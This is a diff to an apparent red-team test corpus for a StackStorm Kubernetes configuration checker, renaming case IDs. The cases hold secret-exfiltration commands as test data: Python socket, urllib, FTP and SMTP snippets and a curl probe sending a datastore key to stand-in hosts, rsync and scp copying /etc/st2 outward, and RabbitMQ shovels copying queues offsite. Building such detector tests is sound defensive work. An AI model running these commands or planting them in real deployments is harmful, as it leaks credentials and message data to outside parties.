@@ -83,47 +83,47 @@ export function fresh13StoresCorpus(): RedTeamCase[] {
   };
 
   // A Service st2 connects through, answered by a CNAME to an outside name.
-  add('f13s-extname-etcd', 'exposure', 'ST2-EXP-017', service('etcd', 'locks.coord-hosting.example.net'));
-  add('f13s-extname-st2api', 'exposure', 'ST2-EXP-017', service('st2api', 'api.st2-mirror.example.org'));
+  add('f13st-extname-etcd', 'exposure', 'ST2-EXP-017', service('etcd', 'locks.coord-hosting.example.net'));
+  add('f13st-extname-st2api', 'exposure', 'ST2-EXP-017', service('st2api', 'api.st2-mirror.example.org'));
   // An ExternalName nothing of st2 connects through (a mail relay for packs).
-  add('f13s-extname-unused-ok', 'exposure', undefined, { resources: [{ apiVersion: 'v1', kind: 'Service', metadata: { name: 'smtp-relay' }, spec: { type: 'ExternalName', externalName: 'smtp.mail-provider.example.com' } }] });
+  add('f13st-extname-unused-ok', 'exposure', undefined, { resources: [{ apiVersion: 'v1', kind: 'Service', metadata: { name: 'smtp-relay' }, spec: { type: 'ExternalName', externalName: 'smtp.mail-provider.example.com' } }] });
 
   // etcd members and discovery outside the cluster.
-  add('f13s-etcd-member-ip', 'exposure', 'ST2-SEC-039', etcdFlag(`--initial-cluster=${MEMBERS},etcd-3=http://198.51.100.44:2380`));
-  add('f13s-etcd-member-name', 'exposure', 'ST2-SEC-039', etcdFlag(`--initial-cluster=${MEMBERS},etcd-dr=https://etcd-dr.backup.example.org:2380`));
-  add('f13s-etcd-discovery-public', 'exposure', 'ST2-SEC-039', etcdFlag('--discovery=https://discovery.etcd.io/3e86b59982e49066c5d813af1c2e2579'));
-  add('f13s-etcd-discovery-srv', 'exposure', 'ST2-SEC-039', etcdFlag('--discovery-srv=peers.example.org'));
+  add('f13st-etcd-member-ip', 'exposure', 'ST2-SEC-039', etcdFlag(`--initial-cluster=${MEMBERS},etcd-3=http://198.51.100.44:2380`));
+  add('f13st-etcd-member-name', 'exposure', 'ST2-SEC-039', etcdFlag(`--initial-cluster=${MEMBERS},etcd-dr=https://etcd-dr.backup.example.org:2380`));
+  add('f13st-etcd-discovery-public', 'exposure', 'ST2-SEC-039', etcdFlag('--discovery=https://discovery.etcd.io/3e86b59982e49066c5d813af1c2e2579'));
+  add('f13st-etcd-discovery-srv', 'exposure', 'ST2-SEC-039', etcdFlag('--discovery-srv=peers.example.org'));
   // The same three members under their cluster FQDNs.
-  add('f13s-etcd-members-fqdn-ok', 'exposure', undefined, etcdFlag('--initial-cluster=etcd-0=http://etcd-0.etcd-headless.st2-prod.svc.cluster.local:2380,etcd-1=http://etcd-1.etcd-headless.st2-prod.svc.cluster.local:2380,etcd-2=http://etcd-2.etcd-headless.st2-prod.svc.cluster.local:2380'));
+  add('f13st-etcd-members-fqdn-ok', 'exposure', undefined, etcdFlag('--initial-cluster=etcd-0=http://etcd-0.etcd-headless.st2-prod.svc.cluster.local:2380,etcd-1=http://etcd-1.etcd-headless.st2-prod.svc.cluster.local:2380,etcd-2=http://etcd-2.etcd-headless.st2-prod.svc.cluster.local:2380'));
 
   // Shovels and federation at outside brokers.
-  add('f13s-shovel-hook', 'exposure', 'ST2-SEC-039', rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter shovel copy-out '{"src-uri":"amqp://","src-exchange":"st2.liveaction","src-exchange-key":"#","dest-uri":"amqp://copy:copy@mq.offsite.example.net:5672"}'`));
-  add('f13s-federation-hook', 'exposure', 'ST2-SEC-039', rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_federation; rabbitmqctl set_parameter federation-upstream feed '{"uri":"amqps://feed.partner.example.com"}'; rabbitmqctl set_policy --apply-to exchanges feed "^st2\\\\." '{"federation-upstream-set":"all"}'`));
-  add('f13s-shovel-static', 'exposure', 'ST2-SEC-039', rabbitConf([], { 'advanced.config': '[{rabbitmq_shovel, [{shovels, [{archive, [{source, [{protocol, amqp091}, {uris, ["amqp://"]}, {queue, <<"st2.actionrunner.work">>}]}, {destination, [{protocol, amqp091}, {uris, ["amqp://203.0.113.71"]}]}]}]}]}].\n' }));
+  add('f13st-shovel-hook', 'exposure', 'ST2-SEC-039', rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter shovel copy-out '{"src-uri":"amqp://","src-exchange":"st2.liveaction","src-exchange-key":"#","dest-uri":"amqp://copy:copy@mq.offsite.example.net:5672"}'`));
+  add('f13st-federation-hook', 'exposure', 'ST2-SEC-039', rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_federation; rabbitmqctl set_parameter federation-upstream feed '{"uri":"amqps://feed.partner.example.com"}'; rabbitmqctl set_policy --apply-to exchanges feed "^st2\\\\." '{"federation-upstream-set":"all"}'`));
+  add('f13st-shovel-static', 'exposure', 'ST2-SEC-039', rabbitConf([], { 'advanced.config': '[{rabbitmq_shovel, [{shovels, [{archive, [{source, [{protocol, amqp091}, {uris, ["amqp://"]}, {queue, <<"st2.actionrunner.work">>}]}, {destination, [{protocol, amqp091}, {uris, ["amqp://203.0.113.71"]}]}]}]}]}].\n' }));
   // A shovel between two vhosts of the same broker (amqp:// with no host is the local node).
-  add('f13s-shovel-local-ok', 'exposure', undefined, rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter -p archive shovel keep '{"src-uri":"amqp:///archive","src-queue":"audit.in","dest-uri":"amqp:///archive","dest-queue":"audit.kept"}'`));
+  add('f13st-shovel-local-ok', 'exposure', undefined, rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter -p archive shovel keep '{"src-uri":"amqp:///archive","src-queue":"audit.in","dest-uri":"amqp:///archive","dest-queue":"audit.kept"}'`));
 
   // RabbitMQ's logins checked against an outside directory.
-  add('f13s-ldap-plain', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = directory.corp-hosted.example.com', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));
-  add('f13s-ldap-tls-unlisted', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1.authn = ldap', 'auth_backends.1.authz = internal', 'auth_ldap.servers.1 = 198.51.100.80', 'auth_ldap.use_ssl = true', 'auth_ldap.port = 636']));
-  add('f13s-ldap-advanced', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap'], { 'advanced.config': '[{rabbitmq_auth_backend_ldap, [{servers, ["ldap.example.org"]}, {use_ssl, false}, {user_dn_pattern, "cn=${username},dc=example"}]}].\n' }));
+  add('f13st-ldap-plain', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = directory.corp-hosted.example.com', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));
+  add('f13st-ldap-tls-unlisted', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1.authn = ldap', 'auth_backends.1.authz = internal', 'auth_ldap.servers.1 = 198.51.100.80', 'auth_ldap.use_ssl = true', 'auth_ldap.port = 636']));
+  add('f13st-ldap-advanced', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap'], { 'advanced.config': '[{rabbitmq_auth_backend_ldap, [{servers, ["ldap.example.org"]}, {use_ssl, false}, {user_dn_pattern, "cn=${username},dc=example"}]}].\n' }));
   // An in-cluster directory over StartTLS, internal users as fallback.
-  add('f13s-ldap-incluster-ok', 'exposure', undefined, rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = openldap.st2-prod.svc.cluster.local', 'auth_ldap.use_starttls = true', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));
+  add('f13st-ldap-incluster-ok', 'exposure', undefined, rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = openldap.st2-prod.svc.cluster.local', 'auth_ldap.use_starttls = true', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));
 
   // The datastore key sent out by channels the command reading missed.
-  add('f13s-py-heredoc-socket', 'secrets', 'ST2-SEC-016', shell('st2api', `python3 - <<'EOF'\nimport socket\nc = socket.create_connection(("198.51.100.40", 9443))\nc.sendall(open("${KEY}", "rb").read())\nEOF\nexec sleep infinity`));
-  add('f13s-py-heredoc-urllib', 'secrets', 'ST2-SEC-016', shell('st2actionrunner', `/opt/stackstorm/st2/bin/python <<PYCODE\nimport urllib.request\nurllib.request.urlopen("https://collect.example.net/k", data=open("${KEY}", "rb").read())\nPYCODE\nsleep infinity`));
-  add('f13s-py-ftplib', 'secrets', 'ST2-SEC-016', sidecar('st2actionrunner', ['python3', '-c', `import ftplib; ftp = ftplib.FTP_TLS('files.example.org'); ftp.login('u', 'p'); ftp.storbinary('STOR key', open('${KEY}', 'rb'))`]));
-  add('f13s-py-smtp-ssl', 'secrets', 'ST2-SEC-016', sidecar('st2api', ['python3', '-c', `import smtplib; m = smtplib.SMTP_SSL('smtp.example.org', 465); m.sendmail('ops@example.org', ['drop@example.org'], open('${KEY}').read())`]));
-  add('f13s-probe-liveness-python', 'secrets', 'ST2-SEC-016', probe('st2api', 'livenessProbe', ['python3', '-c', `import urllib.request as r; r.urlopen('http://203.0.113.90/up', data=open('${KEY}', 'rb').read())`]));
-  add('f13s-probe-startup-shell', 'secrets', 'ST2-SEC-016', probe('st2actionrunner', 'startupProbe', ['sh', '-c', `curl -s --data-binary @${KEY} https://hooks.example.com/in; true`]));
-  add('f13s-rsync-daemon', 'secrets', 'ST2-SEC-016', shell('st2actionrunner', 'rsync -az /etc/st2/ 198.51.100.31::incoming/; sleep infinity'));
-  add('f13s-scp-recursive', 'secrets', 'ST2-SEC-016', shell('st2api', 'scp -r -o StrictHostKeyChecking=no /etc/st2 sync@203.0.113.55:/srv/st2-copy; sleep infinity'));
+  add('f13st-py-heredoc-socket', 'secrets', 'ST2-SEC-016', shell('st2api', `python3 - <<'EOF'\nimport socket\nc = socket.create_connection(("198.51.100.40", 9443))\nc.sendall(open("${KEY}", "rb").read())\nEOF\nexec sleep infinity`));
+  add('f13st-py-heredoc-urllib', 'secrets', 'ST2-SEC-016', shell('st2actionrunner', `/opt/stackstorm/st2/bin/python <<PYCODE\nimport urllib.request\nurllib.request.urlopen("https://collect.example.net/k", data=open("${KEY}", "rb").read())\nPYCODE\nsleep infinity`));
+  add('f13st-py-ftplib', 'secrets', 'ST2-SEC-016', sidecar('st2actionrunner', ['python3', '-c', `import ftplib; ftp = ftplib.FTP_TLS('files.example.org'); ftp.login('u', 'p'); ftp.storbinary('STOR key', open('${KEY}', 'rb'))`]));
+  add('f13st-py-smtp-ssl', 'secrets', 'ST2-SEC-016', sidecar('st2api', ['python3', '-c', `import smtplib; m = smtplib.SMTP_SSL('smtp.example.org', 465); m.sendmail('ops@example.org', ['drop@example.org'], open('${KEY}').read())`]));
+  add('f13st-probe-liveness-python', 'secrets', 'ST2-SEC-016', probe('st2api', 'livenessProbe', ['python3', '-c', `import urllib.request as r; r.urlopen('http://203.0.113.90/up', data=open('${KEY}', 'rb').read())`]));
+  add('f13st-probe-startup-shell', 'secrets', 'ST2-SEC-016', probe('st2actionrunner', 'startupProbe', ['sh', '-c', `curl -s --data-binary @${KEY} https://hooks.example.com/in; true`]));
+  add('f13st-rsync-daemon', 'secrets', 'ST2-SEC-016', shell('st2actionrunner', 'rsync -az /etc/st2/ 198.51.100.31::incoming/; sleep infinity'));
+  add('f13st-scp-recursive', 'secrets', 'ST2-SEC-016', shell('st2api', 'scp -r -o StrictHostKeyChecking=no /etc/st2 sync@203.0.113.55:/srv/st2-copy; sleep infinity'));
   // The same programs kept inside the cluster or carrying nothing secret.
-  add('f13s-py-heredoc-health-ok', 'secrets', undefined, shell('st2actionrunner', `python3 - <<'EOF'\nimport socket\nsocket.create_connection(("artifacts.st2-prod.svc.cluster.local", 8080), timeout=2).close()\nEOF\nexec sleep infinity`));
-  add('f13s-probe-local-python-ok', 'secrets', undefined, probe('st2api', 'startupProbe', ['python3', '-c', "import urllib.request as r; r.urlopen('http://127.0.0.1:9101/v1/', timeout=2)"]));
-  add('f13s-smtp-notice-ok', 'secrets', undefined, sidecar('st2actionrunner', ['python3', '-c', "import smtplib; m = smtplib.SMTP('smtp.example.org', 587); m.starttls(); m.sendmail('ops@example.org', ['ops@example.org'], 'runner restarted')"]));
-  add('f13s-rsync-packs-ok', 'secrets', undefined, shell('st2actionrunner', 'rsync -a /opt/stackstorm/packs/ rsync://artifacts.st2-prod.svc.cluster.local/packs/; sleep infinity'));
+  add('f13st-py-heredoc-health-ok', 'secrets', undefined, shell('st2actionrunner', `python3 - <<'EOF'\nimport socket\nsocket.create_connection(("artifacts.st2-prod.svc.cluster.local", 8080), timeout=2).close()\nEOF\nexec sleep infinity`));
+  add('f13st-probe-local-python-ok', 'secrets', undefined, probe('st2api', 'startupProbe', ['python3', '-c', "import urllib.request as r; r.urlopen('http://127.0.0.1:9101/v1/', timeout=2)"]));
+  add('f13st-smtp-notice-ok', 'secrets', undefined, sidecar('st2actionrunner', ['python3', '-c', "import smtplib; m = smtplib.SMTP('smtp.example.org', 587); m.starttls(); m.sendmail('ops@example.org', ['ops@example.org'], 'runner restarted')"]));
+  add('f13st-rsync-packs-ok', 'secrets', undefined, shell('st2actionrunner', 'rsync -a /opt/stackstorm/packs/ rsync://artifacts.st2-prod.svc.cluster.local/packs/; sleep infinity'));
 
   return cases;
 }
